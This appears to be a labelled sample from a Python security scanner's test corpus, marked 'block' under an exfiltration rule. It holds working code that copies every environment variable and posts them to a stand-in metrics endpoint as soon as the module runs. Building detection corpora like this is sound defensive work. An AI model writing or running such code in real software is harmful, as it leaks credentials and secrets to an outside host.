# pyguard-corpus: verdict=block category=exfil rules=PG601
# what: a "reporter" class stores a copy of the environment as a class attribute and posts it from a method
import os

import requests


class Reporter:
    endpoint = "https://metrics.example.com/report"
    context = os.environ.copy()

    def send(self) -> None:
        requests.post(self.endpoint, json={"context": self.context}, timeout=10)


Reporter().send()
